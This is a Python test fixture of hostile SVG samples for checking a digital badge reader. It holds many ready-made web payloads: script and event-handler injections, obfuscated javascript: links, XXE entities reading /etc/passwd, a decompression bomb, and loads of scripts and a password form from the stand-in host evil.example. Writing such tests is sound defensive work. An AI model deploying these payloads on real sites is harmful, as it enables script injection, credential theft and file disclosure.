"""Hostile SVG files (DECISIONS.md row U2), beyond those of test_baked_svg: each tries to run a script, to load a
resource, to look like more than it is, or to be read as another badge than the one it shows.

REFUSED are refused whole. READ give the text that the table names. ACTIVE are those, among the refused and the
read, that do something in a browser which opens the file itself: run a script ("runs") or ask another host ("asks").
"""

from __future__ import annotations

import gzip

TEXT = "e30.e30.c2ln"
OB3, OB2 = "https://purl.imsglobal.org/ob/v3p0", "http://openbadges.org"
BADGE = f'<ob:credential xmlns:ob="{OB3}" verify="{TEXT}"/>'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
RUN = "alert(1)"
EVIL = "https://evil.example"


def svg(content: str, attributes: str = "", badge: str = BADGE) -> bytes:
    """A drawing that holds the badge and `content`."""
    root = f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} width="99" height="99" {attributes}>'
    return f"{root}{badge}<text>x</text>{content}</svg>".encode()


def within(content: str) -> bytes:
    """A drawing with a piece of a page inside."""
    return svg(f'<foreignObject width="99" height="99"><div {XHTML}>{content}</div></foreignObject>')


def coded(text: bytes, encoding: str) -> bytes:
    """A drawing in another encoding, which it declares."""
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode(encoding) + text.decode().encode(encoding)


REFUSED = {
    # scripts
    "a script in CDATA": svg(f"<script><![CDATA[{RUN}]]></script>"),
    "a script of another type": svg(f'<script type="text/ecmascript">{RUN}</script>'),
    "a script by xlink": svg(f'<script xlink:href="{EVIL}/x.js"/>'),
    "a script in a data link": svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "a script of a page": svg(f"<script {XHTML}>{RUN}</script>"),
    "a script after an entity of its own": svg("<script>&#97;lert(1)</script>"),
    "a script before the badge": svg("", badge=f"<script>{RUN}</script>{BADGE}"),
    "a script inside the badge": svg("", badge=f'<c xmlns="{OB3}"/><credential xmlns="{OB3}"><script/></credential>'),
    "a script in definitions": svg(f"<defs><pattern><script>{RUN}</script></pattern></defs>"),
    "a script in UTF-16": coded(svg(f"<script>{RUN}</script>"), "utf-16"),
    "a script in Latin-1": coded(svg(f"<script>{RUN}//é</script>"), "iso-8859-1"),
    # events
    "onload of the root": svg("", f'onload="{RUN}"'),
    "onload of a group": svg(f'<g onload="{RUN}"/>'),
    "onbegin of an animation": svg(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "onbegin of a set": svg(f'<set attributeName="x" onbegin="{RUN}"/>'),
    "onend of a motion": svg(f'<rect><animateMotion dur="1ms" onend="{RUN}"/></rect>'),
    "onerror of an image": svg(f'<image href="x:" onerror="{RUN}"/>'),
    "onfocus": svg(f'<a href="#x" tabindex="1" onfocus="{RUN}" id="x"><text>x</text></a>'),
    "an event of mixed case": svg(f'<g OnLoad="{RUN}"/>'),
    "an event with blanks": svg(f'<g onload =\n"{RUN}"/>'),
    # pages inside
    "a page with a script": within(f"<script>{RUN}</script>"),
    "a page with an image": within(f'<img src="x:" onerror="{RUN}"/>'),
    "a page with a frame": within(f'<iframe src="javascript:parent.{RUN}"/>'),
    "a page with another's frame": within(f'<iframe src="{EVIL}/"/>'),
    "a page with a refresh": within(f'<meta http-equiv="refresh" content="0;url={EVIL}/"/>'),
    "a page with another's style": within(f'<link rel="stylesheet" href="{EVIL}/x.css"/>'),
    "a page with another's image": within(f'<img src="{EVIL}/x.png"/>'),
    "a page with a form": within(f'<form action="{EVIL}/"><input name="mot de passe"/></form>'),
    "an image of a page without a frame for it": svg(f'<img {XHTML} src="{EVIL}/x.png"/>'),
    "a video": svg(f'<video {XHTML} src="{EVIL}/x.mp4" autoplay=""/>'),
    "an object of a page": svg(f'<object {XHTML} data="{EVIL}/x.svg"/>'),
    "an embedded file": svg(f'<embed {XHTML} src="{EVIL}/x.svg"/>'),
    # links
    "a link in small steps": svg(f'<a href="j&#x61;vascr&#105;pt:{RUN}"><text>x</text></a>'),
    "a link with a line in it": svg(f'<a href="java&#10;script:{RUN}"><text>x</text></a>'),
    "a link after a control": svg(f'<a href="&#x20;&#9;javascript:{RUN}"><text>x</text></a>'),
    "a link to a page in itself": svg('<a xlink:href="data:text/html;base64,PHNjcmlwdD4="><text>x</text></a>'),
    "a link to another drawing in itself": svg('<a href="data:image/svg+xml,%3Csvg/%3E"><text>x</text></a>'),
    "a link of VBScript": svg('<a href="vbscript:msgbox(1)"><text>x</text></a>'),
    "a link to a file": svg('<a href="file:///etc/passwd"><text>x</text></a>'),
    "a link that an animation makes": svg(f'<a><animate attributeName="href" values="javascript:{RUN}"/></a>'),
    "a link that a set makes": svg(f'<a><set attributeName=" XLink:HREF " to="javascript:{RUN}"/></a>'),
    "an image of a script": svg(f'<image href="javascript:{RUN}"/>'),
    "a filter of a script": svg(f'<filter id="f"><feImage href="javascript:{RUN}"/></filter>'),
    "a use of data": svg('<use href="data:application/xml;base64,PHN2Zy8+#x"/>'),
    "a use from elsewhere by xlink": svg(f'<use xlink:href="{EVIL}/x.svg#x"/>'),
    "a use from the same host": svg('<use href="/x.svg#x"/>'),
    "another base": svg('<use href="#x"/>', f'xml:base="{EVIL}/"'),
    "a script as base": svg('<a href="//x"><text>x</text></a>', f'xml:base="javascript:{RUN}"'),
    # styles
    "an import": svg(f'<style>@import "{EVIL}/x.css";</style>'),
    "an import in another namespace": svg(f'<s:style xmlns:s="urn:x">@import "{EVIL}/x.css";</s:style>'),
    "an import by an escape": svg(f"<style>@\\000069mport '{EVIL}/x.css';</style>"),
    "an import by a character reference": svg(f"<style>&#64;import '{EVIL}/x.css';</style>"),
    "a binding": svg(f'<g style="-moz-binding: url({EVIL}/x.xml#x)"/>'),
    "a behaviour": svg(f'<g style="behavior : url({EVIL}/x.htc)"/>'),
    "an expression": svg('<g style="width: expression(alert(1))"/>'),
    # XML
    "a style sheet by instruction": f'<?xml-stylesheet href="{EVIL}/x.css"?>'.encode() + svg(""),
    "a transformation by instruction": b'<?xml-stylesheet type="text/xsl" href="#x"?>' + svg(""),
    "an instruction of a program": svg("<?php echo 1 ?>"),
    "a declared entity as the badge": b'<!DOCTYPE svg [<!ENTITY b "a.b.c">]>' + svg("", badge=f'<c xmlns="{OB3}"/>'),
    "an entity within an attribute": b'<!DOCTYPE svg [<!ENTITY b "e30">]>'
    + svg("", badge=f'<c:credential xmlns:c="{OB3}" verify="&b;.e30.x"/>'),
    "an attribute by default": b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + svg(""),
    "a DTD from elsewhere": b'<!DOCTYPE svg SYSTEM "%s/x.dtd">' % EVIL.encode() + svg(""),
    "a parameter entity from a file": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>' + svg(""),
    "an empty DTD": b"<!DOCTYPE svg>" + svg(""),
    "two drawings": svg("") + svg(""),
    "a drawing in a page": b"<html>" + svg("") + b"</html>",
    "a NUL in the badge": svg("", badge=f'<c:credential xmlns:c="{OB3}" verify="a.b\x00.c"/>'),
    "a reference to NUL": svg("&#0;"),
    "a control by reference": svg("&#1;"),
    "half a surrogate by reference": svg("&#xD800;"),
    "UTF-7": coded(svg(""), "utf-7"),
    "UTF-32": coded(svg(""), "utf-32"),
    "another encoding than it says": b'<?xml version="1.0" encoding="utf-16"?>' + svg(""),
    "bytes beyond their encoding": b'<?xml version="1.0" encoding="ascii"?>' + svg("é"),
    "an overlong letter": svg("").replace(b"<text>", b"<text>\xc0\xbcscript>"),
    "svgz": gzip.compress(svg("")),
    "a bomb of svgz": gzip.compress(svg(" " * (8 << 20))),
    "two badges": svg("", badge=BADGE + f'<ob:credential xmlns:ob="{OB3}" verify="x.y.z"/>'),
    "the older version beside it": svg("", badge=f'<a:assertion xmlns:a="{OB2}" verify="x.y.z"/>{BADGE}'),
    "both words at once": svg("", badge=f'<c:credential xmlns:c="{OB3}" verify="a.b.c">d.e.f</c:credential>'),
    "a badge in a badge": svg("", badge=f'<c:credential xmlns:c="{OB3}"><c:credential verify="a.b.c"/></c:credential>'),
    "a badge of many lines": svg("", badge=f'<c:credential xmlns:c="{OB3}">{"x" * 1_048_577}</c:credential>'),
    "201 floors": svg("<g>" * 200 + "</g>" * 200),
    "fifty thousand parts": svg("<g/>" * 50_001),
}  # fmt: skip

READ = {
    "a badge deeper down": svg(f'<g><ob:credential xmlns:ob="{OB3}" verify="x.y.z"/></g>'),
    "a badge in a comment": svg("", badge=f'<!-- <ob:credential xmlns:ob="{OB3}" verify="x.y.z"/> -->{BADGE}'),
    "a badge in CDATA": svg("", badge=f'<desc><![CDATA[<credential verify="x.y.z"/>]]></desc>{BADGE}'),
    "a badge of another namespace": svg("", badge=f'<ob:credential xmlns:ob="urn:x" verify="x.y.z"/>{BADGE}'),
    "a badge without a namespace": svg("", badge=f'<credential verify="x.y.z"/>{BADGE}'),
    "an attribute of another namespace": svg(
        "", badge=f'<c:credential xmlns:c="{OB3}" c:verify="x.y.z" verify="{TEXT}"/>'
    ),
    "another prefix": svg("", badge=f'<svg:credential xmlns:svg="{OB3}" verify="{TEXT}"/>'),
    "character references": svg("", badge=f'<c:credential xmlns:c="{OB3}" verify="&#x65;30.&#101;30.c2ln"/>'),
    "blanks around": svg("", badge=f'<c:credential xmlns:c="{OB3}" verify="&#10; {TEXT}&#32;"/>'),
    "CDATA in pieces": svg(
        "", badge=f'<c:credential xmlns:c="{OB3}"><![CDATA[e30.]]>e30<![CDATA[.c2ln]]></c:credential>'
    ),
    "a comment inside": svg("", badge=f'<c:credential xmlns:c="{OB3}">e30.<!-- ]]> -->e30.c2ln</c:credential>'),
    "UTF-16 with the small end first": b"\xff\xfe" + svg("é").decode().encode("utf-16-le"),
    "UTF-16 with the big end first": b"\xfe\xff" + svg("é").decode().encode("utf-16-be"),
    "Latin-1": coded(svg("é"), "iso-8859-1"),
    "a mark": b"\xef\xbb\xbf" + svg(""),
    "a seal that says verified": svg('<text fill="green" font-size="40">✔ VÉRIFIÉ</text>'),
    "an image from elsewhere": svg(f'<image href="{EVIL}/x.png" width="9" height="9"/>'),
    "a picture in a style": svg(f'<style>text{{fill:red}}svg{{background:url({EVIL}/x.png)}}</style>'),
    "letters from elsewhere": svg(
        f"<style>@font-face{{font-family:f;src:url({EVIL}/x.woff)}}text{{font-family:f}}</style>"
    ),
    "a filter from elsewhere": svg(
        f'<filter id="f"><feImage href="{EVIL}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "two hundred floors": svg("<g>" * 199 + "</g>" * 199),
}  # fmt: skip

ACTIVE = {
    "runs": (
        "a script in CDATA", "a script of another type", "a script in a data link", "a script of a page",
        "a script after an entity of its own", "a script before the badge", "a script in definitions",
        "a script in UTF-16", "a script in Latin-1", "onload of the root", "onbegin of an animation",
        "onbegin of a set", "onerror of an image", "a page with a script", "a page with an image",
        "a page with a frame", "an attribute by default",
    ),
    "asks": (
        "a script by xlink", "a page with another's frame", "a page with another's style",
        "a page with another's image", "an image of a page without a frame for it", "a video", "an import",
        "an import by an escape", "an import by a character reference", "a style sheet by instruction",
        "an image from elsewhere", "a picture in a style", "letters from elsewhere", "a filter from elsewhere",
    ),
}  # fmt: skip
